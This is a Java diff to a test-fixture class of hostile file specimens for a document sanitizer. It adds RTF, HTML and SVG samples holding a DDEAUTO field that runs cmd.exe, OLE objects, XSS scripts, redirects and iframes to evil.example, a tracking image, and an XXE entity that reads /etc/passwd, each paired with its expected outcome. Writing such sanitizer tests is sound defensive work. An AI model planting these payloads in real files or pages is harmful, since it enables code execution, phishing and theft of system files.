@@ -89,6 +89,7 @@ public final class HostileSpecimens {
         all.addAll(text());
         all.addAll(images());
         all.addAll(archives());
+        all.addAll(markup());
         all.addAll(otherTypes());
         return List.copyOf(all);
     }
@@ -847,6 +848,134 @@ public final class HostileSpecimens {
         return out.toByteArray();
     }
 
+    // ---------------------------------------------------------------- RTF, SVG, HTML
+
+    static List<Specimen> markup() {
+        List<Specimen> s = new ArrayList<>();
+        s.add(new Specimen("RTF-00", "議事録.rtf", rtf("\\f0 \\'8b\\'63\\'8e\\'96\\'98\\'5e\\par"), CLEAN, ""));
+        s.add(new Specimen(
+                "OFF-12a",
+                "文書.rtf",
+                rtf("{\\object\\objemb{\\*\\objclass Equation.3}{\\*\\objdata 0105000002000000}"
+                        + "{\\result{\\pict\\wmetafile8 0100}}}"),
+                SANITIZED,
+                "ole-object"));
+        s.add(new Specimen(
+                "OFF-12b",
+                "link.rtf",
+                rtf("{\\object\\objautlink\\objupdate{\\*\\objclass Word.Document.8}"
+                        + "{\\*\\objdata 010500000200000008000000}}"),
+                SANITIZED,
+                "ole-object"));
+        s.add(new Specimen(
+                "OFF-12c",
+                "template.rtf",
+                rtf("{\\*\\template http://evil.example/t.dotm}本文"),
+                SANITIZED,
+                "external-reference"));
+        s.add(new Specimen(
+                "OFF-12d",
+                "dde.rtf",
+                rtf("{\\field{\\*\\fldinst DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"}{\\fldrslt x}}"),
+                SANITIZED,
+                "dde"));
+        s.add(new Specimen("OFF-12e", "broken.rtf", rtf("{\\b unclosed"), BLOCKED, "MALFORMED"));
+        s.add(new Specimen(
+                "WEB-01",
+                "お知らせ.html",
+                "<html><body><p>お知らせ</p><script>alert(1)</script><img src=x onerror=alert(2)></body></html>"
+                        .getBytes(StandardCharsets.UTF_8),
+                SANITIZED,
+                "script"));
+        s.add(new Specimen(
+                "WEB-03",
+                "申込.html",
+                ("<html><head><meta http-equiv=\"refresh\" content=\"0;url=http://evil.example\"></head><body>"
+                                + "<iframe src=\"http://evil.example\"></iframe><form action=\"http://evil.example\">"
+                                + "<input name=p></form><a href=\"javascript:alert(1)\">申込</a></body></html>")
+                        .getBytes(StandardCharsets.UTF_8),
+                SANITIZED,
+                "active-element"));
+        s.add(new Specimen(
+                "WEB-04",
+                "案内.htm",
+                ("<html><head><meta charset=\"Shift_JIS\"><title>案内</title></head><body><p onclick=\"x()\">"
+                                + "市役所のご案内</p><a href=\"https://www.city.example.lg.jp/\">ホームページ</a></body></html>")
+                        .getBytes(CP932),
+                SANITIZED,
+                "script"));
+        s.add(new Specimen(
+                "WEB-00",
+                "clean.html",
+                "<html><body><h1>見出し</h1><table><tr><td>1</td></tr></table></body></html>"
+                        .getBytes(StandardCharsets.UTF_8),
+                CLEAN,
+                ""));
+        s.add(new Specimen(
+                "WEB-02",
+                "logo.svg",
+                svg(" onload=\"alert(1)\"", "<script>alert(2)</script><circle r=\"5\"/>"),
+                SANITIZED,
+                "script"));
+        s.add(new Specimen(
+                "WEB-05",
+                "map.svg",
+                svg(
+                        "",
+                        "<foreignObject><iframe xmlns=\"http://www.w3.org/1999/xhtml\" src=\"http://evil.example\"/></foreignObject>"
+                                + "<image href=\"http://evil.example/track.png\" width=\"1\" height=\"1\"/>"
+                                + "<a href=\"javascript:alert(1)\"><rect width=\"5\" height=\"5\"/></a>"),
+                SANITIZED,
+                "active-element"));
+        s.add(new Specimen(
+                "WEB-06",
+                "style.svg",
+                svg("", "<style>@import url(http://evil.example/x.css);</style>"),
+                SANITIZED,
+                "external-reference"));
+        s.add(new Specimen(
+                "WEB-07",
+                "xxe.svg",
+                ("<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"
+                                + "<svg xmlns=\"http://www.w3.org/2000/svg\"><text>&x;</text></svg>")
+                        .getBytes(StandardCharsets.UTF_8),
+                BLOCKED,
+                "XML_DOCTYPE"));
+        s.add(new Specimen(
+                "WEB-08",
+                "icon.svg",
+                svg(
+                        "",
+                        "<defs><linearGradient id=\"g\"><stop offset=\"0\" stop-color=\"#f00\"/></linearGradient></defs>"
+                                + "<rect width=\"10\" height=\"10\" fill=\"url(#g)\"/><use href=\"#g\"/>"),
+                CLEAN,
+                ""));
+        return s;
+    }
+
+    /** An RTF document in CP932 with {@code body} after its header. */
+    static byte[] rtf(String body) {
+        StringBuilder escaped = new StringBuilder();
+        // As Word writes it: Japanese as \'hh escapes of its CP932 bytes (a raw trail byte may be '{' or '\\').
+        body.codePoints().forEach(cp -> {
+            if (cp < 0x80) {
+                escaped.appendCodePoint(cp);
+            } else {
+                for (byte b : new String(Character.toChars(cp)).getBytes(CP932)) {
+                    escaped.append(String.format("\\'%02x", b & 0xff));
+                }
+            }
+        });
+        return ("{\\rtf1\\ansi\\ansicpg932\\deff0{\\fonttbl{\\f0\\fnil\\fcharset128 MS Mincho;}}" + escaped + "}")
+                .getBytes(StandardCharsets.US_ASCII);
+    }
+
+    static byte[] svg(String rootAttributes, String content) {
+        return ("<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\"" + rootAttributes + ">" + content
+                        + "</svg>")
+                .getBytes(StandardCharsets.UTF_8);
+    }
+
     // ---------------------------------------------------------------- everything else
 
     static List<Specimen> otherTypes() {
@@ -913,27 +1042,6 @@ public final class HostileSpecimens {
                 BLOCKED,
                 "TYPE_NOT_SUPPORTED"));
         s.add(new Specimen("TYP-16", "empty.docx", new byte[0], BLOCKED, "MALFORMED"));
-        s.add(new Specimen(
-                "WEB-01",
-                "お知らせ.html",
-                "<html><body><p>お知らせ</p><script>alert(1)</script><img src=x onerror=alert(2)></body></html>"
-                        .getBytes(StandardCharsets.UTF_8),
-                BLOCKED,
-                "TYPE_NOT_SUPPORTED"));
-        s.add(new Specimen(
-                "WEB-02",
-                "logo.svg",
-                "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><script>alert(2)</script><circle r=\"5\"/></svg>"
-                        .getBytes(StandardCharsets.UTF_8),
-                BLOCKED,
-                "TYPE_NOT_SUPPORTED"));
-        s.add(new Specimen(
-                "OFF-12",
-                "文書.rtf",
-                "{\\rtf1\\ansi{\\object\\objemb{\\*\\objclass Equation.3}{\\*\\objdata 01050000}}}"
-                        .getBytes(StandardCharsets.US_ASCII),
-                BLOCKED,
-                "TYPE_NOT_SUPPORTED"));
         s.add(new Specimen(
                 "MAIL-01",
                 "転送.eml",
